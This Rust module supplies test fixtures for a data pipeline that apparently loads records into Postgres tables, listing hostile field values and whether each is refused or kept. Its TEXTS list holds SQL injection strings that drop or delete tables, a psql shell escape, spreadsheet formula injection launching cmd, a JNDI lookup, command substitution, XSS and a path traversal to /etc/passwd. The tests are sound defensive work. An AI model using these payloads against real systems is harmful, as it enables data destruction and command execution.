//! A record and what the specification makes of it.

use serde_json::Value;

/// What becomes of a record.
#[derive(Clone, Debug)]
pub enum Expectation {
    /// A dead letter.
    Refused {
        /// Its reason.
        reason: &'static str,
        /// What its message names.
        names: String,
    },
    /// Kept as it is; what the tables say of it.
    Kept(Vec<Column>),
}

/// A column of the row that a record leads to.
#[derive(Clone, Debug)]
pub struct Column {
    /// Its name.
    pub name: &'static str,
    /// Its value as text; `None` is null.
    pub text: Option<String>,
}

/// A record that may do harm.
#[derive(Clone, Debug)]
pub struct Case {
    /// What it tries.
    pub name: String,
    /// The record's key.
    pub key: Option<Vec<u8>>,
    /// The record's value.
    pub value: Option<Vec<u8>>,
    /// Names and values of the record's headers.
    pub headers: Vec<(String, Option<Vec<u8>>)>,
    /// What becomes of it.
    pub expected: Expectation,
}

impl Case {
    /// A record with an ordinary key and without headers.
    pub fn new(name: impl Into<String>, value: impl Into<Vec<u8>>, expected: Expectation) -> Self {
        let key = Some(b"hostile".to_vec());
        Self { name: name.into(), key, value: Some(value.into()), headers: Vec::new(), expected }
    }

    /// The account of the books in which it ends; `kept` is that of records which are kept.
    pub fn account(&self, kept: &'static str) -> &'static str {
        match self.expected {
            Expectation::Refused { reason, .. } => reason,
            Expectation::Kept(_) => kept,
        }
    }
}

/// Refused for `reason`, with a message that names `names`.
pub fn refused(reason: &'static str, names: impl Into<String>) -> Expectation {
    Expectation::Refused { reason, names: names.into() }
}

/// Kept, whatever the tables say of it.
pub fn kept() -> Expectation {
    Expectation::Kept(Vec::new())
}

/// Kept, with this text in a column.
pub fn kept_as(name: &'static str, text: Option<&str>) -> Expectation {
    Expectation::Kept(vec![Column { name, text: text.map(str::to_owned) }])
}

/// Texts that mean something to those through whose hands they pass: SQL, COPY, psql, shells, spreadsheets,
/// templates, terminals. None has a control character, so each is as good a name as any.
pub const TEXTS: [&str; 34] = [
    "'; DROP TABLE gold.dim_store; --",
    "x' OR '1'='1",
    "$$;COMMIT;$$",
    "1); DELETE FROM silver.transactions; --",
    "\"streamflow\".\"progress\"",
    "\\.",
    "\\N",
    "\\",
    "\\\\",
    "a\\tb\\nc",
    "\\x00",
    "{a,\"b\",NULL}",
    "NULL",
    "null",
    "\\! touch /tmp/hostile",
    "\\copy x to 'y'",
    ":'HOME'",
    "=HYPERLINK(\"http://x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "`id` $(id)",
    "${jndi:ldap://x/a}",
    "%s%n%p",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    " leading and trailing ",
    "a|b\u{a0}c",
    "\u{202e}gnp.exe",
    "\u{feff}\u{200b}\u{200d}",
    "\u{2028}\u{2029}",
    "e\u{301}é\u{1f600}\u{10ffff}",
    "{\"amount\": 1}",
];

/// JSON strings that are no text of one line: control characters, and escapes that denote no character.
pub const NO_TEXTS: [&str; 12] = [
    r#""\u0000""#,
    r#""a\u0000b""#,
    r#""\u001b[31mred""#,
    r#""a\nb""#,
    r#""a\r\nb""#,
    r#""a\tb""#,
    r#""\u007f""#,
    r#""\u0085""#,
    r#""\u009b2J""#,
    r#""\ud800""#,
    r#""\udc00x""#,
    r#""\ud800\u0041""#,
];

/// A value of each JSON type.
pub const TYPES: [&str; 14] = [
    "true",
    "false",
    "0",
    "-1",
    "1",
    "1.5",
    r#""""#,
    r#""x""#,
    "[]",
    r#"["x"]"#,
    "[1]",
    "{}",
    r#"{"x": 1}"#,
    "1e400",
];

/// A text as JSON.
pub fn quoted(text: &str) -> String {
    Value::from(text).to_string()
}
